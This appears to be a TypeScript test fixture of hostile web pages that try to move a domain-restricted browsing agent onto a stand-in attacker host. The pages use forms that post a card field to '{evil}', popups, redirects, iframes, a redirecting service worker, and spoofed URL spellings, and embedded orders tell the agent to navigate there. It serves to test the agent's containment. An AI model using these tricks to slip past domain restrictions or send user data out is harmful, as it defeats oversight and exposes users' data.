/** Pages that want the task to go to another domain. */
import { clock, type HostilePage, orders } from './hostile-page';

const card = '<label>Card <input name="card" value="4000"></label>';
const form = (attributes: string, button = '<button id="go">Send</button>') =>
  `<form method="post" ${attributes}>${card}${button}</form>`;
const settle: [string, string, string] = ['wait', '', '400'];
const clickGo = orders(['click', '#go'], settle);
const scripted = (script: string) => `<button id="go" onclick="${script}">Continue</button>${clickGo}`;
const bound = { allowedDomains: ['{shop}'] };

const ofPublicSite: Omit<HostilePage, 'host'>[] = [
  { id: 'form-into-blank', html: form('action="{evil}/form" target="_blank"') + clickGo },
  { id: 'form-into-named-target', html: form('action="{evil}/form" target="receipt"') + clickGo },
  {
    id: 'form-by-enter',
    html: `${form('action="{evil}/form" target="_blank"')}${orders(['press', 'input', 'Enter'], settle)}`,
  },
  {
    id: 'button-with-formaction',
    html: `${form('action="{site}/form"', '<button id="go" formaction="{evil}/form" formtarget="pay">Pay</button>')}${clickGo}`,
  },
  {
    id: 'form-submitted-by-action',
    html: `${form('id="f" action="{evil}/form" target="_blank"')}${orders(['submit', '#f'], settle)}`,
  },
  {
    id: 'form-sent-by-script',
    html: `${form('id="f" action="{evil}/form"', '')}${scripted("f.target = 'late'; f.requestSubmit()")}`,
  },
  {
    id: 'form-of-base-target',
    html: `<base target="elsewhere"><form action="{evil}/form"><input name="q" value="x"><button id="go">Go</button></form>${clickGo}`,
  },
  { id: 'link-into-blank', html: `<a id="go" target="_blank" href="{evil}/link">Help</a>${clickGo}` },
  { id: 'link-into-named-target', html: `<a id="go" target="help" href="{evil}/link">Help</a>${clickGo}` },
  {
    id: 'link-with-opener',
    html: `<a id="go" target="_blank" rel="opener" href="{evil}/link">Help</a>${clickGo}`,
  },
  {
    id: 'link-by-enter',
    html: `<a id="go" target="help" href="{evil}/link">Help</a>${orders(['press', '#go', 'Enter'], settle)}`,
  },
  {
    id: 'area-and-svg-links',
    html: `<img usemap="#m" width="80" height="40" alt="map" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area id="go" shape="rect" coords="0,0,80,40" target="map" href="{evil}/area" alt="Map"></map>
      <svg width="60" height="30"><a id="svg" href="{evil}/svg" target="drawing"><rect width="60" height="30"/></a></svg>
      ${orders(['click', '#go'], ['click', '#svg'], settle)}`,
  },
  {
    id: 'link-with-modifier',
    html: scripted(
      "const a = document.createElement('a'); a.href = '{evil}/modified'; a.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true }))",
    ),
  },
  { id: 'window-open', html: scripted("window.open('{evil}/open')") },
  { id: 'window-open-without-opener', html: scripted("window.open('{evil}/open', 'n', 'noopener')") },
  {
    id: 'blank-child-then-location',
    html: scripted(
      "const w = window.open('about:blank', 'c'); setTimeout(() => { w.location = '{evil}/late' }, 200)",
    ),
  },
  {
    id: 'blank-child-with-refresh',
    html: scripted(
      "const w = window.open('', 'c'); w.document.write('<meta http-equiv=refresh content=&quot;0; url={evil}/refresh&quot;>'); w.document.close()",
    ),
  },
  {
    id: 'javascript-child',
    html: scripted("window.open(`javascript:location='{evil}/js'`)"),
  },
  {
    id: 'blob-page',
    html: scripted(
      "location = URL.createObjectURL(new Blob(['<script>location=`{evil}/blob`</script' + '>'], { type: 'text/html' }))",
    ),
    neverOpened: true,
  },
  {
    id: 'popup-of-a-popup',
    html: `<a id="go" target="_blank" rel="opener" href="{site}/inner-popup">More</a>${clickGo}`,
    others: {
      'inner-popup': `<title>More</title>${form('action="{evil}/second" target="third"', '<button id="again">Send</button>')}${orders(['click', '#again'], ['wait', '', '401'])}`,
    },
  },
  {
    id: 'popup-leads-its-opener',
    html: `<a id="go" target="_blank" rel="opener" href="{site}/leader">More</a>${clickGo}`,
    others: { leader: "<title>More</title><script>opener.location = '{evil}/opener'</script>" },
  },
  {
    id: 'meta-refresh',
    html:
      '<meta http-equiv="refresh" content="1; url={evil}/meta"><p>One moment.</p>' +
      orders(['wait', '', '1500']),
  },
  {
    id: 'timer',
    html: `<script>setTimeout(() => location.replace('{evil}/timer'), 700)</script>${orders(['wait', '', '1200'])}`,
  },
  {
    id: 'open-redirects',
    html: `<a id="go" href="{site}/hop?to={evil}/hop">Offer</a>${clickGo}${orders(['navigate', '', '{site}/hop?to={evil}/hop2'], settle)}`,
  },
  { id: 'form-redirected', html: form('action="{site}/hop?status=307&to={evil}/kept"') + clickGo },
  {
    id: 'redirect-in-new-tab',
    html: `<a id="go" target="t" href="{site}/hop?to={evil}/hop">Offer</a>${clickGo}`,
  },
  {
    id: 'frames-that-appear',
    html: scripted(
      "for (const e of ['iframe', 'object', 'embed']) { const f = document.createElement(e); f.src = f.data = '{evil}/' + e; document.body.append(f) }",
    ),
  },
  {
    id: 'frame-leads-the-top',
    html: scripted(
      "const f = document.createElement('iframe'); f.srcdoc = '<base target=_top><a id=x href={evil}/top>x</a><script>x.click()</' + 'script>'; document.body.append(f)",
    ),
  },
  {
    id: 'link-to-a-frame-target',
    html: `<iframe name="inside" srcdoc="x"></iframe><a id="go" target="inside" href="{evil}/framed">Help</a>${clickGo}`,
  },
  {
    id: 'spellings-of-an-address',
    html:
      clock +
      orders(
        ['navigate', '', '{evil}/plain'],
        ['goto', '', '{evil}/synonym'],
        ['tool navigate', '', '{evil}/tool'],
        ['navigate', '', 'http://EVIL.TEST.:{evilPort}/{id}/dot'],
        ['navigate', '', 'http://{shop}@evil.test:{evilPort}/{id}/user'],
        ['navigate', '', 'http://{shop}.evil.test:{evilPort}/{id}/below'],
        ['navigate', '', 'http:\\\\evil.test:{evilPort}/{id}/backslash'],
        ['navigate', '', 'http://evil。test:{evilPort}/{id}/ideographic'],
        ['navigate', '', "javascript:location='{evil}/script'"],
        ['navigate', '', 'view-source:{evil}/source'],
        ['tab', '', '{evil}/tab'],
      ),
  },
  {
    id: 'confirmed-away',
    html: scripted("confirm('Leave?') || true ? location.assign('{evil}/confirmed') : 0"),
  },
  {
    id: 'redirect-at-opening',
    html: '<p>Nothing.</p>',
    start: '{site}/hop?to={evil}/opened',
    task: bound,
  },
  {
    id: 'frame-of-the-page-with-a-list',
    html: `<iframe src="{evil}/frame"></iframe>${orders(['wait', '', '300'])}`,
    task: bound,
  },
];

const ofLoopbackSite: Omit<HostilePage, 'host'>[] = [
  { id: 'download-link', html: `<a id="go" download href="{evil}/file">Save</a>${clickGo}` },
  {
    id: 'download-after-redirect',
    html: `<a id="go" download="x.txt" href="{site}/hop?to={evil}/file">Save</a>${clickGo}`,
  },
  {
    id: 'port-of-the-same-host',
    html: `<a id="go" target="p" href="http://{shop}:{evilPort}/{id}/x">Port</a>${clickGo}`,
  },
  {
    id: 'service-worker-redirect',
    html: `<script>navigator.serviceWorker.register('worker').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'Ready' })</script>
      ${orders(['wait', '', '800'], ['navigate', '', '{site}/answered'], ['wait', '', '401'])}`,
    others: {
      worker: {
        headers: { 'content-type': 'text/javascript' },
        body: "oninstall = () => skipWaiting(); onactivate = () => clients.claim(); onfetch = (e) => e.request.mode === 'navigate' && e.respondWith(Response.redirect('{evil}/worker'))",
      },
    },
  },
];

export const leaveTheDomain: HostilePage[] = [
  ...ofPublicSite.map((page) => ({ ...page, host: 'public' as const })),
  ...ofLoopbackSite.map((page) => ({ ...page, host: 'loopback' as const })),
];
